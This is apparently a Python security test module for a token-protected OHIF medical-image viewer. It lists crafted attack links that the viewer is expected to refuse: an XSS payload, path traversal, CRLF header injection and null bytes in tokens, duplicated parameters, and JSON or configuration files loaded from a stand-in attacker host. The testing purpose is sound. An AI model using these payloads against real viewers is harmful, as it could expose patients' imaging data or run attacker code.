"""Links as an attacker makes them: none is followed that is not plain, and none brings along what is shown."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote

from attacks import weakenings as weak
from attacks.forged_studies import NAME, data_url, dicom_json
from attacks.hostile import Behaviour, answering
from attacks.model import PageAttack, Weakening
from attacks.requirements import (
    archive_gets_nothing,
    archive_gets_only_the_study,
    attacker_gets_nothing,
    everything,
    result_is,
    says,
    shows_nothing_of,
    site_gets_no,
    token_in_no,
)
from attacks.rows.ways import Address, link, script
from attacks.visit import Visit

REFUSED = everything(says("bad-link"), archive_gets_nothing)
BAD_TOKEN = everything(says("bad-token"), archive_gets_nothing)
JSON_ROUTE = "/dicom-web/studies/{id}/ohif-dicom-json"
WITH_JSON = {"dicom_json": JSON_ROUTE}


def refused(
    name: str,
    why: str,
    query: Address,
    weakened: Weakening,
    *,
    recipe: dict[str, str] | None = None,
    fragment: Address = lambda v: "",
) -> PageAttack:
    """A link that must not be followed, with the token; the query is the address's own."""

    def address(visit: Visit) -> str:
        return f"{visit.origin}/viewer?{query(visit)}&token={visit.token}{fragment(visit)}"

    return link(name, why, address, REFUSED, weakened, recipe=recipe)


def tokens(name: str, why: str, parameters: str, weakened: Weakening = weak.ANY_TOKEN) -> PageAttack:
    """A link whose token must not be used."""
    return link(
        name,
        why,
        lambda v: v.link(f"&{parameters}" if parameters[0] != "#" else parameters, token=""),
        BAD_TOKEN,
        weakened,
    )


UNREADABLE = (
    refused("two-urls", "one of them is judged, the other opened", lambda v: f"url={v.root}/studies/a/ohif-dicom-json&url={data_url(dicom_json(v.own))}", weak.TWO_URLS, recipe=WITH_JSON),
    refused("two-urls-in-two-spellings", "the name is read with and without regard to case", lambda v: f"URL={v.root}/studies/a/ohif-dicom-json&url={data_url(dicom_json(v.own))}", weak.TWO_URLS, recipe=WITH_JSON),
    refused("url-in-query-and-fragment", "one is read in the query, the other in the fragment", lambda v: f"url={data_url(dicom_json(v.own))}", weak.TWO_URLS, recipe=WITH_JSON, fragment=lambda v: f"#Url={v.root}/studies/a/ohif-dicom-json"),
    refused("encoded-name-of-url", "a name that is encoded", lambda v: f"%75rl={data_url(dicom_json(v.own))}&url={v.root}/studies/a/ohif-dicom-json", weak.TWO_URLS, recipe=WITH_JSON),
    refused("url-beside-studies", "the studies are judged, the file opened", lambda v: f"StudyInstanceUIDs={v.own}&url={v.root}/studies/a/ohif-dicom-json", weak.URL_BESIDE_STUDIES, recipe=WITH_JSON),
    refused("no-uid", "text in place of a study", lambda v: "StudyInstanceUIDs=..%2F..%2Fsystem", weak.ANY_UID),
    refused("one-bad-uid", "a good study and a bad one", lambda v: f"StudyInstanceUIDs={v.own},*", weak.ANY_UID),
    refused("long-uid", "a UID of 65 characters", lambda v: f"StudyInstanceUIDs=1.{'2' * 63}", weak.ANY_UID),
    refused("uid-with-markup", "markup in place of a study", lambda v: "StudyInstanceUIDs=" + quote("<img src=x onerror=alert(1)>"), weak.ANY_UID),
    refused("uid-in-other-digits", "digits of another alphabet", lambda v: "StudyInstanceUIDs=" + quote("١.٢.٣"), weak.ANY_UID),
    refused("broken-uid", "an encoding that is broken", lambda v: "StudyInstanceUIDs=%ED%A0%80", weak.ANY_UID),
    refused("null-in-uid", "a control character", lambda v: f"StudyInstanceUIDs={v.own}%00", weak.ANY_UID),
    refused("201-studies", "more than a link may name", lambda v: "StudyInstanceUIDs=" + ",".join(f"1.{n}" for n in range(201)), weak.MANY_STUDIES),
    refused("2000-studies", "far more than a link may name", lambda v: "StudyInstanceUIDs=" + ",".join(f"1.{n}" for n in range(2000)), weak.MANY_STUDIES),
    refused("100-kB", "a link that no server has to take whole", lambda v: f"StudyInstanceUIDs={v.own}", weak.ANY_LENGTH, fragment=lambda v: "#x=" + "y" * 100_000),
    link(
        "user-name",
        "an address with a user's name cannot be replaced: the script dies before its guards stand",
        lambda v: v.link().replace("://", "://user@"),
        everything(archive_gets_nothing, token_in_no("url", "history", "history_state", "html")),
        weak.NO_HANDOVER,
    ),
    link(
        "password",
        "the same with a password",
        lambda v: v.link().replace("://", "://user:secret@"),
        everything(archive_gets_nothing, token_in_no("url", "history", "history_state", "html")),
        weak.NO_HANDOVER,
    ),
)  # fmt: skip

TOKENS = (
    tokens("two-tokens", "proxy and archive take different ones", "token=one1&token=two2", weak.FIRST_TOKEN),
    tokens("token-in-query-and-fragment", "the same, in two places", "token=one1#token=two2", weak.FIRST_TOKEN),
    tokens(
        "two-spellings-of-a-token", "names are read without regard to case", "token=one1&TOKEN=two2", weak.FIRST_TOKEN
    ),
    tokens("encoded-name-of-a-token", "a name that is encoded", "token=one1&%74oken=two2", weak.FIRST_TOKEN),
    tokens("line-breaks", "a token that becomes a header of its own", "token=a%0D%0AX-Injected:%20yes"),
    tokens("null-in-token", "a token that ends early", "token=abc%00def"),
    tokens("space-in-token", "a token with a scheme of its own", "token=Bearer%20abc"),
    tokens("other-letters-in-token", "letters that a header cannot have", "token=%E2%82%ACuro"),
    tokens("long-token", "a token that no server takes", "#token=" + "x" * 8193),
)

JSON = f"{JSON_ROUTE}"


def opens(
    name: str,
    why: str,
    query: Address,
    *,
    archive: Callable[[Visit], Behaviour] | None = None,
    recipe: dict[str, str] | None = None,
    weakened: Weakening = weak.STOCK_JSON,
    stays: str = "/other/",
) -> PageAttack:
    """A link for a JSON file that describes studies: whoever writes the file says what the viewer shows and asks for."""

    def address(visit: Visit) -> str:
        return f"{visit.origin}/viewer?{query(visit)}&token={visit.token}"

    demand = everything(shows_nothing_of(NAME), archive_gets_only_the_study, attacker_gets_nothing, site_gets_no(stays))

    def succeeded(visit: Visit) -> bool:
        asked = [r for r in visit.archive() if "ohif-dicom-json" not in r.target] or visit.attacked()
        return bool(asked) or NAME in visit.page.inner_text("body")

    return link(name, why, address, demand, weakened, page="viewer", archive=archive, recipe=recipe, until=succeeded)


def _file(visit: Visit) -> str:
    """A file that has the viewer ask for another study."""
    return dicom_json(visit.other, f"dicomweb:{visit.root}/studies/{visit.other}/series/1.2/instances/1.2.3/frames/1")


def _encoded(path: Callable[[Visit], str]) -> Address:
    return lambda visit: f"url={quote(path(visit), safe='')}"


FILES = (
    opens("json-in-the-link", "the file stands in the link itself", lambda v: f"url={data_url(_file(v))}"),
    opens("json-in-the-link-allowed", "the same where links may name files", lambda v: f"url={data_url(_file(v))}", recipe=WITH_JSON, weakened=weak.ANY_JSON),
    opens("json-behind-another-name", "one name is judged, the other opened", lambda v: f"URL={v.root}/x.json&url={data_url(_file(v))}"),
    opens("json-elsewhere", "a file of the same origin outside the roots", lambda v: "url=/other/evil.json"),
    opens("json-of-the-attacker", "a file of another server", _encoded(lambda v: f"{v.evil}/x.json"), weakened=weak.STOCK_JSON),
    opens("json-is-a-video", "any bytes under the root may describe studies", _encoded(lambda v: f"{v.root}/studies/{v.own}/rendered"), archive=lambda v: answering(_file(v), "video/mp4", part="rendered")),
    opens(
        "json-of-another-type", "bytes that somebody uploaded, at the very route", _encoded(lambda v: f"{v.root}/studies/{v.own}/ohif-dicom-json"),
        archive=lambda v: answering(_file(v), "text/plain", part="ohif-dicom-json"), recipe=WITH_JSON, weakened=weak.ANY_JSON,
    ),
    opens("json-is-a-search", "a search by patient, named as a file", _encoded(lambda v: f"{v.root}/studies?PatientID={v.patient}")),
    opens("json-is-the-archive", "a search over the archive", _encoded(lambda v: f"{v.root}/studies")),
    opens("json-is-all-instances", "a search over all instances", _encoded(lambda v: f"{v.root}/instances")),
    opens("json-is-another-study", "another study's metadata", _encoded(lambda v: f"{v.root}/studies/{v.other}/metadata")),
    opens(
        "json-with-a-query", "the route with a query behind it", _encoded(lambda v: f"{v.root}/studies/{v.own}/ohif-dicom-json?x=1"),
        archive=lambda v: answering(_file(v), "application/json", part="ohif-dicom-json"), recipe=WITH_JSON, weakened=weak.ANY_JSON,
    ),
    opens(
        "json-route-climbed", "the route, reached by a detour", _encoded(lambda v: f"{v.root}/studies/..%2f{v.own}/ohif-dicom-json"),
        archive=lambda v: answering(_file(v), "application/json", part="ohif-dicom-json"), recipe=WITH_JSON, weakened=weak.ANY_JSON,
    ),
    opens(
        "json-names-elsewhere", "a file of the route that names pictures outside the roots", _encoded(lambda v: f"{v.root}/studies/{v.own}/ohif-dicom-json"),
        archive=lambda v: answering(dicom_json(v.own, "wadouri:/other/picture"), "application/json", part="ohif-dicom-json"), recipe=WITH_JSON, weakened=weak.ANY_JSON,
    ),
    opens(
        "json-names-a-search", "a file of the route that names a search as a picture", _encoded(lambda v: f"{v.root}/studies/{v.own}/ohif-dicom-json"),
        archive=lambda v: answering(dicom_json(v.own, f"wadouri:{v.root}/studies?PatientID=*"), "application/json", part="ohif-dicom-json"), recipe=WITH_JSON, weakened=weak.ANY_JSON,
    ),
    opens(
        "json-names-the-attacker", "a file of the route that names the attacker's pictures", _encoded(lambda v: f"{v.root}/studies/{v.own}/ohif-dicom-json"),
        archive=lambda v: answering(dicom_json(v.own, f"wadouri:{v.evil}/picture"), "application/json", part="ohif-dicom-json"), recipe=WITH_JSON, weakened=weak.ANY_JSON_AND_PLACE,
    ),
)  # fmt: skip

PARAMETERS = (
    link(
        "configuration-of-the-attacker",
        "OHIF can be told to load its configuration from elsewhere",
        lambda v: v.link(f"&configUrl={quote(v.evil + '/x.js', safe='')}"),
        everything(attacker_gets_nothing, archive_gets_only_the_study),
        weak.STOCK,
        page="viewer",
    ),
    link(
        "list-of-all-studies",
        "the work list with a search of the link's own",
        lambda v: f"{v.origin}/?mrn={v.patient}&token={v.token}",
        everything(archive_gets_nothing, says("no-token", "not-found", "bad-link")),
        weak.STOCK,
        page="viewer",
    ),
    link(
        "other-data-source",
        "OHIF makes a route of each mode for each data source",
        lambda v: f"{v.origin}/viewer/dicomjson?url={data_url(_file(v))}&token={v.token}",
        everything(shows_nothing_of(NAME), archive_gets_only_the_study),
        weak.STOCK,
        page="viewer",
    ),
)


def _pushed(js: str) -> str:
    return js + "; await new Promise(done => setTimeout(done, 200));"


def _pasted(visit: Visit) -> None:
    visit.open()
    visit.run("location.hash = `#token=${token}`")
    visit.until(lambda: visit.token not in visit.page.url, 2.0)
    visit.started()


def next_link_without_a_token(visit: Visit) -> str:
    visit.open()
    return visit.link(studies=visit.other, token="")


def no_study(visit: Visit) -> str:
    visit.open()
    return visit.origin + "/"


def next_link_after_a_token_that_nobody_took(visit: Visit) -> str:
    visit.open(visit.origin + "/robots.txt")
    visit.run("sessionStorage.setItem('ohifbuild:/:handover', JSON.stringify({ key: own, token, problem: '' }))")
    return visit.link(studies=visit.other, token="")


TAB = (
    script(
        "next-link-inherits",
        "the next link of the tab has no token of its own",
        "const r = await fetch(`${root}/studies/${other}/series`).catch(() => 'nothing'); return r === 'nothing'",
        everything(archive_gets_nothing, result_is(True)),
        weak.ONE_FOR_ALL,
        link=next_link_without_a_token,
    ),
    script(
        "link-without-a-study",
        "a page that names no study, in a tab that has a token",
        "const r = await fetch(`${root}/studies/${own}/series`).catch(() => 'nothing'); return r === 'nothing'",
        everything(archive_gets_nothing, result_is(True)),
        weak.LIST_IS_OPEN,
        link=no_study,
    ),
    script(
        "handed-over-and-left",
        "a token that was handed over and never taken, and then another link",
        "const r = await fetch(`${root}/studies/${other}/series`).catch(() => 'nothing'); return r === 'nothing'",
        everything(archive_gets_nothing, result_is(True)),
        weak.LEFT_OVER,
        link=next_link_after_a_token_that_nobody_took,
    ),
    script(
        "address-pushed",
        "the page's own code moves on to another study without a load",
        _pushed("history.pushState({}, '', `/viewer?StudyInstanceUIDs=${other}`)")
        + "await fetch(`${root}/studies/${own}/series`).catch(() => {})",
        archive_gets_nothing,
        weak.UNAWARE,
    ),
    script(
        "address-navigated",
        "the same by the newer interface, which calls no method of history's",
        "await navigation.navigate(`#StudyInstanceUIDs=${other}`).committed; await fetch(`${root}/studies/${own}/series`).catch(() => {})",
        archive_gets_nothing,
        weak.UNAWARE,
    ),
    PageAttack(
        "token-pasted-into-the-fragment",
        "a link pasted over this one's, which comes without a load",
        _pasted,
        everything(token_in_no("url", "history"), archive_gets_nothing),
        weak.UNAWARE,
    ),
)

ROWS = (*UNREADABLE, *TOKENS, *FILES, *PARAMETERS, *TAB)
